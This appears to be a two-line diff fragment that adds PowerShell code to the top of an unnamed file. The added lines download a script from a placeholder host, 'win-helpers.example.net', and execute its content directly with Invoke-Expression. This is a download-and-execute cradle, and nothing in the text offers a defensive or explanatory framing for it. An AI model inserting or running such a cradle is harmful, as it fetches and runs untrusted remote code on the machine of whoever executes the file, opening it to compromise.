@@ -1,0 +1,2 @@
+$u = 'https://win-helpers.example.net/a.ps1'
+iex (iwr $u -UseBasicParsing).Content
